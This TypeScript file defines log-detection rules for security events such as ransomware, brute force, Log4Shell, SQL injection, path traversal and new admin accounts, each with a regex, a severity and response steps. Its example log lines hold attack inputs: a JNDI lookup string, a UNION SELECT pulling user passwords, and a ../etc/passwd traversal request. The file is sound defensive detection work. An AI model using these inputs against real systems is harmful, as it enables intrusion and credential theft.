import type { Rule } from "./rule.ts";

/** Attempts to get in, and traces of those who did. */
export const securityRules: readonly Rule[] = [
  {
    name: "ransomware",
    component: "security",
    words: ["ransomware", "ransom"],
    pattern: /\bransomware\b.{0,60}\b(?:detected|found|blocked|activity|alert)\b|\bransom note\b/i,
    severity: "P1",
    cause: "a protection program saw files being encrypted for ransom",
    action:
      "Cut the host off the network but leave it running, disable the account that was used, check that backups are offline and whole, and call the security team.",
    confidence: 84,
    example: "endpoint-agent: Ransomware activity detected on host fs2, process blocked",
    notExamples: ["endpoint-agent: ransomware rules updated to 2025.05"],
  },
  {
    name: "malware-found",
    component: "security",
    words: ["malware", "trojan", "virus", "rootkit", "found"],
    pattern:
      /(?<!\bno )\b(?:malware|trojan|virus|rootkit)\b(?! (?:database|definitions?|signatures?|scan)).{0,60}(?<!no )(?<!not )\b(?:found|detected|quarantined)\b|\b(?:infected|possible) (?:malware|trojan|virus|rootkit)\b|: [\w-]{2,30}\.[\w.-]{3,80} found$/i,
    severity: "P2",
    cause: "a scanner recognized harmful software",
    action:
      "Note file, host and user; keep the file in quarantine, look where it came from and whether it ran, and scan the hosts it could reach.",
    confidence: 84,
    example: "clamd[903]: /srv/upload/invoice.zip: Win.Test.EICAR_HDB-1 FOUND",
    notExamples: ["freshclam: virus database is up to date", "scan finished: no malware found"],
  },
  {
    name: "audit-log-cleared",
    component: "security",
    words: ["audit", "log"],
    pattern:
      /\b(?:audit|security|event) log (?:file )?(?:was |has been )?cleared\b|\baudit log\b.{0,30}\b(?:deleted|truncated|wiped)\b/i,
    severity: "P2",
    cause: "somebody emptied the log that records who did what, as intruders do",
    action:
      "Read the account and time from the event, ask that person, and look in the central log store for what the account did in the hour before.",
    confidence: 88,
    certain: true,
    example: "EventID=1102 Microsoft-Windows-Eventlog: The audit log was cleared. Subject: EXAMPLE\\jdoe",
  },
  {
    name: "audit-records-lost",
    component: "security",
    words: ["audit", "auditd", "kauditd"],
    pattern:
      /\b(?:audit|auditd|kauditd)\b.{0,40}\b(?:backlog limit exceeded|lost=[1-9]\d{0,9}|records? lost|daemon (?:stopped|died))/i,
    severity: "P3",
    cause: "audit records were dropped, so the trace of what happened has gaps",
    action:
      "Check that auditd runs and its disk has room, raise the backlog with `auditctl -b`, and find the rule that writes most by `aureport --summary`.",
    confidence: 84,
    example: "kernel: audit: backlog limit exceeded",
    notExamples: ["kernel: audit: backlog=0 lost=0"],
  },
  {
    name: "break-in-attempt",
    component: "security",
    words: ["possible"],
    pattern: /\bpossible break-in attempt\b/i,
    severity: "P3",
    cause: "the client's name and address do not agree, which ssh takes for a possible forgery",
    action:
      "Look for accepted logins from that address (`journalctl -t sshd | grep <address>`); with none, block it, otherwise ask the account's owner at once.",
    confidence: 80,
    example:
      "sshd[1440]: reverse mapping checking for host.example.net [203.0.113.8] failed - POSSIBLE BREAK-IN ATTEMPT!",
  },
  {
    name: "brute-force",
    component: "security",
    words: ["brute", "bruteforce", "stuffing", "spraying", "spray"],
    pattern:
      /\bbrute[ -]?force\b.{0,60}\b(?:attack|attempts?|detected|login|blocked)\b|\bcredential stuffing\b|\bpassword spray(?:ing)?\b/i,
    severity: "P3",
    cause: "somebody tries passwords in a row",
    action:
      "Block or slow down the source, check that no try succeeded, and make sure that the accounts it aimed at have a second factor.",
    confidence: 84,
    example: "waf: brute force attack on /login from 203.0.113.90, 412 tries in 60s",
    notExamples: ["brute force protection enabled"],
  },
  {
    name: "log4shell-attempt",
    component: "security",
    words: ["jndi"],
    pattern: /\$\{jndi:(?:ldaps?|rmi|dns|iiop|http)\b/i,
    severity: "P2",
    cause: "a request tries to make a Java logger load code from outside",
    action:
      "Check that every Java service that logs this text has log4j 2.17.1 or later, and search the outgoing traffic for the address within the text.",
    confidence: 86,
    certain: true,
    example: `203.0.113.5 - - [12/May/2025:10:07:11 +0000] "GET /?q=\${jndi:ldap://203.0.113.5/a} HTTP/1.1" 404 0`,
  },
  {
    name: "sql-injection-attempt",
    component: "security",
    words: ["injection", "sqli", "union", "20union", "or", "27or", "20or"],
    pattern:
      /\bsql injection\b|\bsqli\b.{0,40}\b(?:attack|attempt|detected|blocked)\b|[?&]\S{0,200}(?:\b|%20)union(?:%20|\+|\/\*\*\/)(?:all(?:%20|\+))?select\b|(?:'|%27)(?:\s|\+|%20)?or(?:\s|\+|%20)(?:'|%27)?1(?:'|%27)?(?:=|%3d)(?:'|%27)?1/i,
    severity: "P3",
    cause: "a request carries pieces of SQL, as those who probe for injection send",
    action:
      "Look at the answers that address got: 200 with a large body or a database error deserves a close look at that query. Block the address meanwhile.",
    confidence: 82,
    certain: true,
    example:
      '203.0.113.66 - - [12/May/2025:10:08:00 +0000] "GET /item?id=1+UNION+SELECT+name,pass+FROM+users HTTP/1.1" 403 0',
    notExamples: ["db: SELECT id FROM a UNION SELECT id FROM b took 12ms"],
  },
  {
    name: "path-traversal-attempt",
    component: "security",
    words: ["passwd", "2fpasswd", "traversal"],
    pattern:
      /(?:\.\.|%2e%2e)(?:\/|%2f)\S{0,80}etc(?:\/|%2f)passwd\b|\b(?:path|directory) traversal\b.{0,40}\b(?:attack|attempt|detected|blocked)\b/i,
    severity: "P3",
    cause: "a request tries to read files outside the folder that is served",
    action:
      "Check that the answers were 400 or 404 and small. If one was 200, take that path offline, and treat the secrets on the host as known.",
    confidence: 84,
    certain: true,
    example:
      '203.0.113.70 - - [12/May/2025:10:09:10 +0000] "GET /files?f=../../../../etc/passwd HTTP/1.1" 400 0',
  },
  {
    name: "scanner-at-work",
    component: "security",
    words: ["sqlmap", "nikto", "masscan", "nuclei", "zgrab", "portscan", "port", "gobuster", "dirbuster"],
    pattern:
      /\b(?:sqlmap|nikto|masscan|nuclei|zgrab|gobuster|dirbuster)\b|\bport ?scan\b.{0,40}\b(?:detected|from|attack)\b/i,
    severity: "P4",
    cause: "a known scanning tool is looking for weak spots",
    action:
      "Ask whether a test was ordered. If not, block the address and look through its requests for any that were answered with 200.",
    confidence: 80,
    example:
      '203.0.113.72 - - [12/May/2025:10:11:30 +0000] "GET /cgi-bin/test HTTP/1.1" 404 0 "-" "Nikto/2.5.0"',
  },
  {
    name: "denial-of-service",
    component: "security",
    words: ["ddos", "denial"],
    pattern:
      /\bddos\b.{0,60}\b(?:attack|detected|mitigation (?:started|active)|in progress)\b|\bdenial[ -]of[ -]service attack\b/i,
    severity: "P1",
    cause: "traffic comes in such a flood that the service may go under",
    action:
      "Turn on the provider's or the content network's protection, rate-limit the paths that are hit, and watch whether real users still get through.",
    confidence: 82,
    example: "edge: DDoS attack detected on 198.51.100.1, 4.2 Gbit/s UDP",
    notExamples: ["edge: DDoS protection enabled"],
  },
  {
    name: "intrusion-alert",
    component: "security",
    words: ["priority"],
    pattern: /\[classification: [^\]]{1,80}\] \[priority: [12]\]/i,
    severity: "P2",
    cause: "the intrusion detection system matched traffic to a serious signature",
    action:
      "Look the signature's number up, see which side started the connection and whether the target has the weakness, and isolate the target if it answered.",
    confidence: 80,
    example:
      "snort: [1:2019284:3] ET ATTACK_RESPONSE id check returned root [Classification: Potentially Bad Traffic] [Priority: 2] {TCP} 192.0.2.4:80 -> 203.0.113.4:4021",
  },
  {
    name: "private-key-in-log",
    component: "security",
    words: ["private"],
    pattern: /-----begin (?:rsa |ec |openssh |encrypted )?private key-----/i,
    severity: "P2",
    cause: "a private key was written into the log, where many can read it",
    action:
      "Replace that key wherever it is used, remove the line from the log and its copies, and correct the statement that printed it.",
    confidence: 90,
    certain: true,
    example: "loaded settings: tls_key=-----BEGIN RSA PRIVATE KEY-----",
  },
  {
    name: "administrator-created",
    component: "security",
    words: ["uid", "group", "to"],
    pattern:
      /\bnew user: name=[\w.-]{1,40}, uid=0\b|\badd(?:ed)? '?[\w.-]{1,40}'? to (?:group )?'?(?:sudo|wheel|domain admins|administrators|root)\b/i,
    severity: "P3",
    cause: "an account got full rights on this system",
    action:
      "Ask whoever ran it, and compare with the change calendar. If nobody knows of it, take the rights away and read what the account did since.",
    confidence: 80,
    certain: true,
    example: "usermod[3310]: add 'temp1' to group 'sudo'",
    notExamples: ["usermod[3310]: add 'temp1' to group 'video'"],
  },
  {
    name: "sudo-refused",
    component: "security",
    words: ["sudoers", "incorrect"],
    pattern: /\bnot in (?:the )?sudoers\b|\bincorrect password attempts\b/i,
    severity: "P3",
    cause: "somebody tried to run a command as another user without the right to",
    action:
      "Read the user and command from the line and ask the user. If it was not them, close the session and change the account's password.",
    confidence: 84,
    example: "sudo: webapp : user NOT in sudoers ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh",
  },
  {
    name: "file-integrity-changed",
    component: "security",
    words: ["integrity", "aide"],
    pattern: /\bintegrity (?:checksum changed|check failed|violation)\b|\baide found differences\b/i,
    severity: "P3",
    cause: "files that are watched for change are not as they were",
    action:
      "Compare the files with their package (`rpm -V` or `dpkg --verify`) and with the last deploy. If neither explains the change, isolate the host and save the files.",
    confidence: 76,
    example: "ossec: Integrity checksum changed for: '/usr/bin/ssh'",
  },
  {
    name: "mandatory-access-denied",
    component: "security",
    words: ["avc", "apparmor"],
    pattern: /\bavc: {1,2}denied\b|\bapparmor="?denied\b/i,
    severity: "P3",
    cause: "SELinux or AppArmor forbade a process something that its profile does not allow",
    action:
      "Read the program and path from the line (`ausearch -m avc -ts recent`). If it is wanted, extend the profile; if the program has no business there, look into it.",
    confidence: 84,
    example:
      'audit: type=1400 apparmor="DENIED" operation="open" profile="/usr/sbin/named" name="/srv/zones/a.db" comm="named"',
  },
  {
    name: "address-banned",
    component: "security",
    words: ["ban"],
    pattern: /\[[\w-]{1,40}\] ban [\da-f.:]{3,45}\b/i,
    severity: "P4",
    cause: "an address was locked out after too many failed tries",
    action:
      "No step is needed for a stranger. If the address is one of yours, stop the job that fails there and lift the ban with `fail2ban-client unban`.",
    confidence: 86,
    example: "fail2ban.actions: [sshd] Ban 203.0.113.15",
    notExamples: ["fail2ban.actions [901]: NOTICE [sshd] Unban 203.0.113.15"],
  },
  {
    name: "web-firewall-blocked",
    component: "security",
    words: ["modsecurity", "waf"],
    pattern: /\bmodsecurity: access denied\b|\bwaf\b.{0,40}\b(?:blocked|denied)\b/i,
    severity: "P4",
    cause: "the web firewall refused a request that looks like an attack",
    action:
      "Look at the rule number and path. Many users of one page blocked means a false alarm to exempt; one address on many paths means a scanner to block.",
    confidence: 80,
    example: "ModSecurity: Access denied with code 403 (phase 2). Matched rule 941100 at ARGS:q",
  },
  {
    name: "firewall-denied",
    component: "security",
    words: ["deny", "denied", "blocked", "dropped"],
    pattern:
      /%(?:asa|ftd)-\d-\d{6}: (?:deny|denied)\b|\baction=["']?(?:deny|denied|blocked|dropped)\b|\bfirewall\b.{0,40}\b(?:denied|blocked|dropped)\b/i,
    severity: "P4",
    cause: "a firewall refused a connection that its rules do not allow",
    action:
      "Read source, target and port. From outside it is daily noise; between your own hosts it is a missing rule or a machine that does what it should not.",
    confidence: 78,
    example:
      "%ASA-4-106023: Deny tcp src inside:192.0.2.77/51000 dst outside:203.0.113.40/25 by access-group",
  },
];
